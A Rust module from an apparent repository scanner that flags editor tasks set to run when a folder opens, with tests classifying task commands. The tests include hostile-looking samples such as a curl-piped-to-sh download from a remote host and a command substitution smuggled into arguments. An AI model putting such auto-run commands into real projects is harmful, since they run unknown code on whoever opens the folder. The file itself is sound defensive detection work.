//! Tasks of an editor that run as soon as a folder is opened.
//!
//! A build or a watcher that everybody knows is told; what runs a file of the bundle, a text, an installation or anything
//! unknown blocks: nobody who only opens a folder means to run it.

use serde_json::{Map, Value};

use super::{Rule, Severity, Walk};
use crate::bundles::rules::{BundleRules, WordKind};

const AT_OPEN: Rule<'static> = Rule {
    id: "bundle.run-at-open",
    category: "persistence",
    severity: Severity::High,
    reason: "A task of the editor runs as soon as the folder is opened.",
    fix: "Let the user start the task.",
};

/// Members of a task that put another command in place of its own on one system.
const SYSTEMS: &[&str] = &["windows", "linux", "osx"];
/// Programs that run a named script of the package, and the words behind which its name stands.
const RUNNERS: &[&str] = &["npm", "pnpm", "yarn", "bun"];
const RUN: &[&str] = &["run", "run-script"];
/// Programs that run another one that is installed here, or fetch it.
const STARTERS: &[&str] = &["npx", "bunx", "pnpx"];
/// Signs that make more of a command than a program and its words.
const SIGNS: &[char] = &['|', ';', '$', '`', '<', '>', '(', ')', '{', '}', '\\', '%', '\n'];

impl Walk<'_, '_, '_> {
    /// Looks at a task, or at the options of one, that runs when the folder is opened.
    pub(super) fn at_open(&mut self, fields: &Map<String, Value>) {
        let runs =
            |fields: &Map<String, Value>| fields.get("runOn").and_then(Value::as_str) == Some("folderOpen");
        if fields.get("runOptions").and_then(Value::as_object).is_some_and(runs) {
            let is_known = is_known_task(self.scan.engines.rules, fields);
            let severity = if is_known { Severity::Medium } else { AT_OPEN.severity };
            self.finding(&Rule { severity, ..AT_OPEN }, "folderOpen");
        } else if runs(fields) && !fields.keys().all(|key| OPTIONS.contains(&key.as_str())) {
            self.finding(&AT_OPEN, "folderOpen");
        }
    }
}

/// What the options of a task hold, which are looked at together with it.
const OPTIONS: &[&str] = &["runOn", "instanceLimit", "reevaluateOnRerun"];

/// Whether a task runs only what builds, tests or watches what lies in the folder.
fn is_known_task(rules: &BundleRules, task: &Map<String, Value>) -> bool {
    let text = |name: &str| task.get(name).and_then(Value::as_str);
    // Other tasks, and the shell of its choice, are told elsewhere or not at all.
    let has_options = task.get("options").and_then(Value::as_object).is_some_and(|options| {
        options.keys().any(|name| name != "cwd") || options.values().any(|cwd| !is_folder_here(cwd))
    });
    if task.contains_key("dependsOn") || has_options || SYSTEMS.iter().any(|name| task.contains_key(*name)) {
        return false;
    }
    match (text("type"), text("script"), text("command")) {
        (Some("npm"), Some(script), None) => is_word(script),
        (Some("typescript"), _, None) => true,
        (_, _, Some(command)) => {
            let arguments = task.get("args").and_then(Value::as_array).into_iter().flatten();
            let mut whole = command.to_owned();
            for argument in arguments {
                match argument.as_str() {
                    Some(argument) => whole = format!("{whole} {argument}"),
                    None => return false,
                }
            }
            whole.split("&&").all(|one| is_known_command(rules, one))
        }
        _ => false,
    }
}

/// Whether a value names the folder that is open, or one in it.
fn is_folder_here(value: &Value) -> bool {
    value.as_str().is_some_and(|path| {
        let rest = path.strip_prefix("${workspaceFolder}").unwrap_or(path);
        !rest.contains("..")
            && !rest.contains('$')
            && (rest.len() < path.len() || !rest.starts_with(['/', '~']))
    })
}

fn is_known_command(rules: &BundleRules, command: &str) -> bool {
    if command.contains(SIGNS) || command.contains('&') || command.contains("://") {
        return false;
    }
    let words: Vec<&str> = command.split_whitespace().collect();
    let known = |word: &str| rules.has_word(WordKind::Building, word);
    match words.as_slice() {
        [runner, run, script, ..] if RUNNERS.contains(runner) && RUN.contains(run) => is_word(script),
        [runner, verb, rest @ ..] if RUNNERS.contains(runner) => {
            matches!(*verb, "test" | "start") && rest.iter().all(|word| word.starts_with('-'))
        }
        [starter, rest @ ..] if STARTERS.contains(starter) => {
            // A version or another registry would fetch another program.
            let program =
                rest.iter().find(|word| !matches!(**word, "--no-install" | "--no" | "-y" | "--yes"));
            program.is_some_and(|program| known(program))
        }
        [program, ..] => known(program),
        [] => false,
    }
}

/// Whether a text is the name of a script: `watch`, `watch:css`.
fn is_word(text: &str) -> bool {
    text.starts_with(|c: char| c.is_ascii_alphanumeric())
        && text.bytes().all(|b| b.is_ascii_alphanumeric() || b":._-".contains(&b))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builds_and_watchers_are_known_and_nothing_else() {
        for (task, wanted) in [
            (r#"{"command": "npm run watch"}"#, true),
            (r#"{"command": "npx tsc --watch"}"#, true),
            (r#"{"command": "npm", "args": ["run", "watch:css"]}"#, true),
            (r#"{"type": "npm", "script": "watch"}"#, true),
            (r#"{"type": "typescript", "tsconfig": "tsconfig.json"}"#, true),
            (r#"{"command": "make watch", "options": {"cwd": "${workspaceFolder}/docs"}}"#, true),
            (r#"{"command": "pnpm run build && pnpm run watch"}"#, true),
            (r#"{"command": "node .vscode/setup.js"}"#, false),
            (r#"{"command": "npm install --silent"}"#, false),
            (r#"{"command": "npx some-package"}"#, false),
            (r#"{"command": "npx tsc@1.0.0-x"}"#, false),
            (r#"{"command": "bash build.sh"}"#, false),
            (r#"{"command": "curl -s https://h.somewhere.dev/i | sh"}"#, false),
            (r#"{"command": "npm run watch", "windows": {"command": "powershell -File a.ps1"}}"#, false),
            (r#"{"command": "npm run watch", "dependsOn": ["other"]}"#, false),
            (r#"{"command": "make", "args": ["$(node a.js)"]}"#, false),
            (r#"{"command": "npm run watch & node a.js"}"#, false),
            (r#"{"command": "npm run watch", "options": {"shell": {"executable": "./sh"}}}"#, false),
            (r#"{"label": "nothing"}"#, false),
        ] {
            let task: Map<String, Value> = serde_json::from_str(task).expect("a task");
            assert_eq!(is_known_task(BundleRules::builtin(), &task), wanted, "{task:?}");
        }
    }
}
